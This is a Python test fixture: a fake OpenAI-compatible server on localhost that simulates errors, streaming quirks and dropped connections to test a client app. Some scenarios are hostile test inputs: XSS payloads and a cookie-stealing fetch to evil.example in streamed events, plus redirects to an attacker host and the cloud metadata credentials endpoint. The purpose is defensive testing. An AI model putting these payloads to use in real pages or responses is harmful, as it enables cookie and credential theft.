"""A fake OpenAI-compatible API that really listens on localhost.

The model name in the request picks the behaviour (``fake/ok``, ``fake/401``, ``fake/drop``…),
so integration tests, browser tests and benchmarks can all drive it through the real form.
Every request it receives is recorded with its headers and body.
"""

from __future__ import annotations

import hashlib
import json
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, unquote, urlsplit

REPLY = "Hello! How can I help you today?"
MARKDOWN = ("# Title\n\nSome **bold** text and a list:\n\n- one\n- two\n\n| a | b |\n|---|---|\n"
            "| 1 | 2 |\n\n```python\nprint('hi')\n```\n")


FIXTURES = Path(__file__).parent / "fixtures"
ROOT_PLACEHOLDER = "{upstream}"  # the fixtures' docsJson URLs name this server by it
SECTIONS = ("pricing", "modalities", "capabilities")  # what include= attaches
FILTERS = {"id", "type", "tags", "modalities", "input_modalities", "output_modalities",
           "capabilities"}


def fixture_text(name: str, root: str = "http://upstream.test") -> str:
    """A fixture file, with its docsJson URLs pointing at ``root`` (this server, when served)."""
    return (FIXTURES / name).read_text().replace(ROOT_PLACEHOLDER, root)


def fixture(name: str, root: str = "http://upstream.test"):
    return json.loads(fixture_text(name, root))


def _values(query: dict, name: str) -> set[str]:
    """A filter's values: comma-separated or repeated, merged, case-insensitive (as documented)."""
    return {v.strip().lower() for raw in query.get(name, []) for v in raw.split(",") if v.strip()}


def _matches(item: dict, query: dict) -> bool:
    modalities = item.get("modalities") or {}
    fields = {
        "id": [item.get("id"), *(item.get("aliases") or [])],
        "type": [item.get("type")],
        "tags": item.get("tags") or [],
        "capabilities": item.get("capabilities") or [],
        "input_modalities": modalities.get("input") or [],
        "output_modalities": modalities.get("output") or [],
        "modalities": [*(modalities.get("input") or []), *(modalities.get("output") or [])],
    }
    for name in FILTERS:
        wanted = _values(query, name)
        have = {str(v).lower() for v in fields[name] if v is not None}
        if wanted and not wanted & have:
            return False
    return True


def catalogue_answer(query: dict, root: str) -> dict:
    """The fixture catalogue as the AI/ML API answers ``GET /v1/models?…``: filtered, and
    with only the sections ``include`` (or ``details=true``) asked for."""
    data = fixture("catalogue.json", root)
    include = _values(query, "include")
    if "all" in include or "true" in _values(query, "details"):
        include = set(SECTIONS)
    items = []
    for item in data["data"]:
        if _matches(item, query):
            items.append({k: v for k, v in item.items() if k not in SECTIONS or k in include})
    return {"object": "list", "data": items}


def catalogue_etag(body: bytes) -> str:
    return f'W/"{len(body):x}-{hashlib.sha256(body).hexdigest()[:16]}"'


def docs_file(model: str) -> Path | None:
    path = FIXTURES / "docs" / (model.replace("/", "--") + ".json")
    return path if model and ".." not in model and path.is_file() else None


def completion(model: str, content=REPLY, *, usage=True, choices=None, **message_extra) -> dict:
    message = {"role": "assistant", "content": content, "refusal": None, **message_extra}
    body = {"id": "gen-1744545600-ExampleId123", "object": "chat.completion",
            "created": 1744545600, "model": model,
            "choices": choices or [{"index": 0, "finish_reason": "stop", "logprobs": None,
                                    "message": message}]}
    if usage:
        body["usage"] = {"prompt_tokens": 5, "completion_tokens": 12, "total_tokens": 17}
    return body


def chunk(model: str, delta: dict | None = None, finish=None, index=0, **extra) -> dict:
    choices = [] if delta is None else [{"index": index, "delta": delta,
                                          "finish_reason": finish}]
    return {"id": "gen-stream-1", "object": "chat.completion.chunk", "created": 1744545600,
            "model": model, "choices": choices, **extra}


def words(text: str) -> list[str]:
    pieces, current = [], ""
    for char in text:
        current += char
        if char == " ":
            pieces.append(current)
            current = ""
    return pieces + ([current] if current else [])


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    # Headers and body go out in separate writes; with Nagle on, the body waits ~40 ms for
    # the client's delayed ACK and every fake call looks slow.
    disable_nagle_algorithm = True
    server: FakeServer

    def log_message(self, *args) -> None:  # keep test output clean
        pass

    # -- helpers -------------------------------------------------------------------------
    def send_json(self, status: int, data, headers: dict | None = None) -> None:
        self.send_body(status, json.dumps(data).encode(), "application/json", headers)

    def send_body(self, status: int, body: bytes, content_type: str,
                  headers: dict | None = None) -> None:
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("x-request-id", f"req-{self.server.count}")
        for name, value in (headers or {}).items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def start_sse(self, chunked: bool = True, headers: dict | None = None) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("x-request-id", f"req-{self.server.count}")
        for name, value in (headers or {}).items():
            self.send_header(name, value)
        if chunked:
            self.send_header("Transfer-Encoding", "chunked")
        else:
            self.send_header("Connection", "close")
            self.close_connection = True
        self.end_headers()
        self._chunked = chunked

    def write(self, text: str) -> None:
        data = text.encode()
        if self._chunked:
            data = f"{len(data):x}\r\n".encode() + data + b"\r\n"
        self.wfile.write(data)
        self.wfile.flush()

    def event(self, data) -> None:
        self.write(f"data: {data if isinstance(data, str) else json.dumps(data)}\n\n")

    def end_sse(self, done: bool = True) -> None:
        if done:
            self.event("[DONE]")
        if self._chunked:
            self.wfile.write(b"0\r\n\r\n")
            self.wfile.flush()

    def stream_text(self, model: str, text: str, delay: float = 0.0, usage: bool = True,
                    done: bool = True) -> None:
        self.start_sse()
        self.event(chunk(model, {"role": "assistant", "content": ""}))
        for piece in words(text):
            if delay:
                time.sleep(delay)
            self.event(chunk(model, {"content": piece}))
        self.event(chunk(model, {}, finish="stop"))
        if usage and (self.body.get("stream_options") or {}).get("include_usage"):
            self.event(chunk(model, None, usage={"prompt_tokens": 5, "completion_tokens": 12,
                                                 "total_tokens": 17}))
        self.end_sse(done)

    # -- routes --------------------------------------------------------------------------
    def do_GET(self) -> None:  # noqa: N802 - http.server's naming
        self.server.record(self, None)
        url = urlsplit(self.path)
        path, query = url.path.rstrip("/"), parse_qs(url.query)
        if path.endswith("/docs-json"):
            self.send_docs(unquote((query.get("model") or [""])[0]))
        elif path.startswith("/openai/") and path.endswith("/models"):
            # OpenAI, vLLM, llama.cpp, Ollama: ids only, whatever is asked
            self.send_json(200, fixture("models-openai.json"))
        elif path.startswith("/broken/") and path.endswith("/models"):
            self.send_json(200, fixture("catalogue-broken.json", self.server.root_url))
        elif path.endswith("/models") and ({"include", "details"} | FILTERS) & set(query):
            self.send_catalogue(query)
        elif path.endswith("/models"):
            self.send_json(200, {"object": "list", "data": [
                {"id": "fake/ok", "type": "chat-completion"},
                {"id": "fake/markdown", "type": "chat-completion"},
                {"id": "text-embedding-3", "type": "embedding"}]})
        else:
            self.send_json(404, {"error": {"message": "no such path"}})

    def read_body(self) -> bytes:
        """The request body, sent with a length or, as some clients do, in chunks."""
        if "chunked" in self.headers.get("Transfer-Encoding", "").lower():
            parts = []
            while size := int(self.rfile.readline().split(b";")[0].strip() or b"0", 16):
                parts.append(self.rfile.read(size))
                self.rfile.readline()
            while self.rfile.readline().strip():  # trailers, up to the blank line
                pass
            return b"".join(parts)
        return self.rfile.read(int(self.headers.get("Content-Length") or 0))

    def send_catalogue(self, query: dict) -> None:
        """The AI/ML API catalogue: ETag on every answer, 304 when If-None-Match matches."""
        if self.server.catalogue_status is not None:
            self.send_json(self.server.catalogue_status,
                           {"message": "catalogue unavailable", "statusCode":
                            self.server.catalogue_status})
            return
        if self.server.catalogue_body is not None:  # a document given whole (the bench's)
            body, etag = self.server.catalogue_body
        else:
            body = json.dumps(catalogue_answer(query, self.server.root_url)).encode()
            etag = catalogue_etag(body)
        if self.headers.get("If-None-Match") == etag:
            self.send_response(304)
            self.send_header("ETag", etag)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        self.send_body(200, body, "application/json", {"ETag": etag})

    def send_docs(self, model: str) -> None:
        """A model's OpenAPI document (its catalogue docsJson), or a 404."""
        if model == "huge/document":  # bigger than any reader should accept
            self.send_body(200, b'{"paths": {}, "pad": "' + b"x" * 5_000_000 + b'"}',
                           "application/json")
            return
        path = docs_file(model)
        if path is None:
            self.send_json(404, {"message": f"no document for {model[:100]}"})
        else:
            self.send_body(200, path.read_bytes(), "application/json")

    def do_POST(self) -> None:  # noqa: N802
        raw = self.read_body()
        try:
            self.body = json.loads(raw)
        except ValueError:
            self.body = {}
        entry = self.server.record(self, self.body)
        model = str(self.body.get("model", ""))
        scenario = self.server.scenarios.get(model) or SCENARIOS.get(model, scenario_ok)
        try:
            scenario(self, model)
        except (BrokenPipeError, ConnectionResetError):
            self.server.disconnects += 1  # the client went away mid-reply
            self.close_connection = True
        finally:
            entry["finished"] = time.monotonic()  # with "arrived": did calls overlap?


# -- scenarios: name -> behaviour -------------------------------------------------------
def scenario_ok(h: Handler, model: str) -> None:
    if h.body.get("stream"):
        h.stream_text(model, REPLY)
    else:
        h.send_json(200, completion(model))


def scenario_markdown(h: Handler, model: str) -> None:
    if h.body.get("stream"):
        h.stream_text(model, MARKDOWN, delay=h.server.markdown_delay)
    else:
        h.send_json(200, completion(model, MARKDOWN))


def scenario_choices(h: Handler, model: str) -> None:
    h.send_json(200, completion(model, choices=[
        {"index": i, "finish_reason": "stop", "message": {"role": "assistant",
                                                          "content": f"Answer number {i}"}}
        for i in range(3)]))


def scenario_tools(h: Handler, model: str) -> None:
    h.send_json(200, completion(model, None, tool_calls=[{
        "id": "call_abc", "type": "function",
        "function": {"name": "get_weather", "arguments": '{"city": "Paris"}'}}]))


def scenario_parallel_tools(h: Handler, model: str) -> None:
    h.send_json(200, completion(model, None, tool_calls=[
        {"id": "call_paris", "type": "function",
         "function": {"name": "get_weather", "arguments": '{"city": "Paris"}'}},
        {"id": "call_oslo", "type": "function",
         "function": {"name": "get_weather", "arguments": '{"city": "Oslo"}'}}]))


def scenario_refusal(h: Handler, model: str) -> None:
    h.send_json(200, completion(model, None, refusal="I can't help with that request."))


def scenario_reasoning(h: Handler, model: str) -> None:
    h.send_json(200, completion(model, "The answer is 4.",
                                reasoning_content="2 plus 2 makes 4, checked twice."))


def scenario_no_usage(h: Handler, model: str) -> None:
    h.send_json(200, completion(model, usage=False))


def scenario_cost(h: Handler, model: str) -> None:
    body = completion(model)
    body["meta"] = {"usage": {"tokens_used": 17, "usd_spent": 0.000123}}
    h.send_json(200, body)


def status_scenario(status: int, body, content_type="application/json", headers=None):
    def scenario(h: Handler, model: str) -> None:
        data = body if isinstance(body, bytes) else json.dumps(body).encode()
        h.send_body(status, data, content_type, headers)
    return scenario


def scenario_flaky(h: Handler, model: str) -> None:
    if h.server.counts[model] == 1:
        h.send_json(500, {"error": {"message": "temporary glitch", "type": "server_error"}})
    else:
        scenario_ok(h, model)


def scenario_slow(h: Handler, model: str) -> None:
    time.sleep(h.server.slow_seconds)
    scenario_ok(h, model)


def scenario_drop(h: Handler, model: str) -> None:
    h.close_connection = True
    h.connection.shutdown(2)


def scenario_stream_error(h: Handler, model: str) -> None:
    h.start_sse()
    for piece in words("Partial answer before "):
        h.event(chunk(model, {"content": piece}))
    h.event({"error": {"message": "The model crashed mid-reply", "code": "server_error"}})
    h.end_sse(done=False)


def scenario_stream_no_done(h: Handler, model: str) -> None:
    h.stream_text(model, "This stream never says done", done=False)


def scenario_stream_drop(h: Handler, model: str) -> None:
    h.start_sse()
    h.event(chunk(model, {"content": "Half a "}))
    h.event(chunk(model, {"content": "reply"}))
    h.close_connection = True
    h.connection.shutdown(2)


def scenario_stream_stall(h: Handler, model: str) -> None:
    h.start_sse()
    h.event(chunk(model, {"content": "Before the stall. "}))
    time.sleep(h.server.slow_seconds)
    h.end_sse()


HOLD_TEXT = "Partial answer so far."


def scenario_hold(h: Handler, model: str) -> None:
    """Stream a partial reply, then wait for the test to let go (``server.release.set()``)."""
    h.start_sse()
    for piece in words(HOLD_TEXT):
        h.event(chunk(model, {"content": piece}))
    if h.server.release.wait(h.server.hold_seconds):
        h.event(chunk(model, {"content": " And the rest."}))
        h.event(chunk(model, {}, finish="stop"))
    h.end_sse()


def scenario_trickle(h: Handler, model: str) -> None:
    h.stream_text(model, " ".join(f"word{i}" for i in range(40)), delay=h.server.trickle_delay)


def scenario_reject_stream_options(h: Handler, model: str) -> None:
    if "stream_options" in h.body:
        h.send_json(400, {"error": {"message": "Unrecognized request argument supplied: "
                                               "stream_options", "type": "invalid_request_error",
                                    "param": "stream_options"}})
    else:
        h.stream_text(model, REPLY)


def scenario_sse_quirks(h: Handler, model: str) -> None:
    """Comments, event names, CRLF, multi-line data, split reads, a choices: [] chunk."""
    h.start_sse(chunked=False)
    h.write(": PROCESSING\r\n\r\n")
    h.write("event: message\r\ndata: " + json.dumps(chunk(model, {"content": "Hel"})) + "\r\n\r\n")
    text = json.dumps(chunk(model, {"content": "lo "}))
    h.write("data: " + text[:10])
    time.sleep(0.05)
    h.write(text[10:] + "\n\n")
    h.write("data: {\"id\": \"gen-stream-1\", \"object\": \"chat.completion.chunk\",\n"
            "data: \"choices\": [{\"index\": 0, \"delta\": {\"content\": \"world\"}}]}\n\n")
    h.event(chunk(model, {}, finish="stop"))
    h.event(chunk(model, None, usage={"prompt_tokens": 3, "completion_tokens": 3,
                                      "total_tokens": 6}))
    h.event("[DONE]")


AZURE_ID, AZURE_MODEL, AZURE_FINGERPRINT = "chatcmpl-azure-9x", "gpt-4o-2024-08-06", "fp_azure"
SAFE = {name: {"filtered": False, "severity": "safe"}
        for name in ("hate", "self_harm", "sexual", "violence")}


def scenario_azure(h: Handler, model: str) -> None:
    """Azure OpenAI's stream: a prompt_filter_results chunk first, its id, model empty."""
    h.start_sse()
    h.event({"choices": [], "created": 0, "id": "", "model": "", "object": "",
             "prompt_filter_results": [{"prompt_index": 0, "content_filter_results": SAFE}]})
    head = {"created": 1744545600, "id": AZURE_ID, "model": AZURE_MODEL,
            "object": "chat.completion.chunk", "system_fingerprint": AZURE_FINGERPRINT}
    deltas = [{"content": "", "refusal": None, "role": "assistant"},
              *({"content": piece} for piece in words(REPLY))]
    for delta in deltas:
        h.event({**head, "choices": [{"content_filter_results": SAFE, "delta": delta,
                                      "finish_reason": None, "index": 0, "logprobs": None}]})
    h.event({**head, "choices": [{"content_filter_results": {}, "delta": {},
                                  "finish_reason": "stop", "index": 0, "logprobs": None}]})
    if (h.body.get("stream_options") or {}).get("include_usage"):
        h.event({**head, "choices": [], "usage": {"prompt_tokens": 5, "completion_tokens": 12,
                                                  "total_tokens": 17}})
    h.end_sse()


GATE_FIRST, GATE_REST = "First words ", "arrive before the rest of the reply."


def scenario_gate(h: Handler, model: str) -> None:
    """Stream the first words, then hold the rest until the test opens ``server.gate``.

    A client that prints text as it arrives shows the first words while the rest is held.
    """
    if not h.body.get("stream"):
        h.send_json(200, completion(model, GATE_FIRST + GATE_REST))
        return
    h.start_sse()
    h.event(chunk(model, {"role": "assistant", "content": ""}))
    h.event(chunk(model, {"content": GATE_FIRST}))
    h.server.gate.wait(30)
    for piece in words(GATE_REST):
        h.event(chunk(model, {"content": piece}))
    h.event(chunk(model, {}, finish="stop"))
    if (h.body.get("stream_options") or {}).get("include_usage"):
        h.event(chunk(model, None, usage={"prompt_tokens": 5, "completion_tokens": 9,
                                          "total_tokens": 14}))
    h.end_sse()


def scenario_hostile(h: Handler, model: str) -> None:
    """Answer the hostile reply the prompt names (see tests/hostile.py)."""
    from tests.hostile import HOSTILE

    messages = h.body.get("messages") or [{}]
    text = HOSTILE.get(str(messages[-1].get("content")), "unknown hostile case")
    if not h.body.get("stream"):
        h.send_json(200, completion(model, text))
        return
    h.start_sse()
    for start in range(0, len(text), 4096):
        h.event(chunk(model, {"content": text[start:start + 4096]}))
    h.event(chunk(model, {}, finish="stop"))
    h.end_sse()


def scenario_echo_key(h: Handler, model: str) -> None:
    """A provider that repeats the Authorization header everywhere it can."""
    key = h.headers.get("Authorization", "").removeprefix("Bearer ")
    headers = {"x-request-id": key, "x-echo": key}
    if h.body.get("stream"):
        h.start_sse(headers=headers)
        h.event(chunk(model, {"content": f"your key is {key} "}))
        h.write(f"event: debug\ndata: {key}\n\n")
        h.event(chunk(model, {}, finish="stop"))
        h.end_sse()
    else:
        body = completion(model, f"your key is {key}")
        body["echo"] = {key: key}
        h.send_json(200, body, headers)


def scenario_echo_key_error(h: Handler, model: str) -> None:
    key = h.headers.get("Authorization", "").removeprefix("Bearer ")
    h.send_json(401, {"error": {"message": f"Invalid key {key}", "code": key}},
                {"x-request-id": key})


def scenario_huge_body(h: Handler, model: str) -> None:
    """Promise 1 GB and send it lazily until the client hangs up."""
    size = 1 << 30
    h.send_response(200)
    h.send_header("Content-Type", "text/event-stream" if h.body.get("stream")
                  else "application/json")
    h.send_header("Content-Length", str(size))
    h.end_headers()
    block = (b"data: " + b"x" * 65528 + b"\n\n") if h.body.get("stream") else b" " * 65536
    sent = 0
    try:
        while sent < size:
            h.wfile.write(block)
            sent += len(block)
            h.server.sent_bytes = sent
    except OSError:
        pass
    h.close_connection = True


def scenario_stall_after_headers(h: Handler, model: str) -> None:
    h.send_response(200)
    h.send_header("Content-Type", "application/json")
    h.send_header("Content-Length", "1000")
    h.end_headers()
    h.wfile.flush()
    time.sleep(h.server.slow_seconds)
    h.close_connection = True


def scenario_unknown_events(h: Handler, model: str) -> None:
    h.start_sse()
    h.write("event: <script>window.__pwned=1</script>\ndata: <img src=x onerror=alert(1)>\n\n")
    h.write("event: result\ndata: {\"html\": \"<img src=x onerror=alert(1)>\"}\n\n")
    h.write("event: tool\ndata: {\"code\": \"fetch('https://evil.example/'+document.cookie)\"}\n\n")
    h.event(chunk(model, {"content": "safe text\n\nevent: result\ndata: {\"html\": \"<b>x\"}"}))
    h.event(chunk(model, {}, finish="stop"))
    h.end_sse()


SCENARIOS = {
    "fake/ok": scenario_ok,
    "fake/markdown": scenario_markdown,
    "fake/choices": scenario_choices,
    "fake/tools": scenario_tools,
    "fake/parallel-tools": scenario_parallel_tools,
    "fake/refusal": scenario_refusal,
    "fake/reasoning": scenario_reasoning,
    "fake/no-usage": scenario_no_usage,
    "fake/cost": scenario_cost,
    "fake/400": status_scenario(400, {"error": {"message": "temperature is out of range",
                                                "type": "invalid_request_error",
                                                "param": "temperature", "code": None}}),
    "fake/401": status_scenario(401, {"message": "Invalid API key provided: fake-sent…",
                                      "path": "/v1/chat/completions", "requestId": "aiml-req-42",
                                      "statusCode": 401, "timestamp": "2026-01-01T00:00:00Z"}),
    "fake/403": status_scenario(403, {"detail": "You do not have enough credits"}),
    "fake/404": status_scenario(404, {"error": {"message": "The model `fake/404` does not exist",
                                                "type": "invalid_request_error",
                                                "code": "model_not_found"}}),
    "fake/429": status_scenario(429, {"error": {"message": "Rate limit reached",
                                                "type": "rate_limit_error"}},
                                headers={"Retry-After": "30"}),
    "fake/flaky": scenario_flaky,
    "fake/502": status_scenario(502, b"<html><head><title>502 Bad Gateway</title></head>"
                                     b"<body><h1>502 Bad Gateway</h1>nginx</body></html>",
                                "text/html"),
    "fake/slow": scenario_slow,
    "fake/drop": scenario_drop,
    "fake/not-json": status_scenario(200, b"this is not json at all", "text/plain"),
    "fake/stream-error": scenario_stream_error,
    "fake/stream-no-done": scenario_stream_no_done,
    "fake/stream-drop": scenario_stream_drop,
    "fake/stream-stall": scenario_stream_stall,
    "fake/trickle": scenario_trickle,
    "fake/hold": scenario_hold,
    "fake/reject-stream-options": scenario_reject_stream_options,
    "fake/sse-quirks": scenario_sse_quirks,
    "fake/azure": scenario_azure,
    "fake/gate": scenario_gate,
    "fake/hostile": scenario_hostile,
    "fake/echo-key": scenario_echo_key,
    "fake/echo-key-error": scenario_echo_key_error,
    "fake/huge-body": scenario_huge_body,
    "fake/stall-after-headers": scenario_stall_after_headers,
    "fake/unknown-events": scenario_unknown_events,
    "fake/redirect-host": status_scenario(307, b"", "text/plain",
                                          {"Location": "https://evil.example/v1/chat/completions"}),
    "fake/redirect-metadata": status_scenario(302, b"", "text/plain", {
        "Location": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"}),
    "fake/error-200": status_scenario(200, {"error": {"message": "Upstream model overloaded",
                                                      "code": 503}}),
}


class FakeServer(ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.lock = threading.Lock()
        self.reset()

    def handle_error(self, request, client_address) -> None:
        """Stay quiet when a test client hangs up on purpose; report anything else."""
        if not isinstance(sys.exc_info()[1], ConnectionError):
            super().handle_error(request, client_address)

    def reset(self) -> None:
        self.received: list[dict] = []
        self.catalogue_received: list[dict] = []  # GET …/models and …/docs-json
        self.count = 0
        self.counts: dict[str, int] = {}
        self.scenarios: dict = {}
        self.disconnects = 0
        self.slow_seconds = 2.0
        self.trickle_delay = 0.05
        self.markdown_delay = 0.0  # between fake/markdown's 17 streamed pieces
        self.sent_bytes = 0
        self.gate = threading.Event()  # opened by a test: scenario_gate sends the rest
        self.release = threading.Event()  # lets every fake/hold reply finish
        self.hold_seconds = 30.0

        self.catalogue_status: int | None = None  # set: /v1/models?include=… answers this
        self.catalogue_body: tuple[bytes, str] | None = None  # set by serve_catalogue

    def serve_catalogue(self, document: dict) -> None:
        """Answer /v1/models?include=… with ``document`` (unfiltered), with its own ETag."""
        body = json.dumps(document).encode()
        self.catalogue_body = (body, catalogue_etag(body))

    def record(self, handler: Handler, body) -> None:
        """Keep the request: the model list and model documents (which the app reads in the
        background, for every page) apart from the calls a test makes the app send."""
        entry = {"method": handler.command, "path": handler.path,
                 "headers": dict(handler.headers.items()), "body": body}
        path = urlsplit(handler.path).path.rstrip("/")
        with self.lock:
            if handler.command == "GET" and path.endswith(("/models", "/docs-json")):
                self.catalogue_received.append(entry)
                return
            model = str((body or {}).get("model", ""))
            self.counts[model] = self.counts.get(model, 0) + 1
            self.count = len(self.received) + 1
            entry = {"method": handler.command, "path": handler.path,
                     "headers": dict(handler.headers.items()), "body": body,
                     "arrived": time.monotonic(), "finished": None}
            self.received.append(entry)
            return entry

    @property
    def root_url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}/v1"

    def start(self) -> FakeServer:
        threading.Thread(target=self.serve_forever, daemon=True).start()
        return self

    def stop(self) -> None:
        self.shutdown()
        self.server_close()
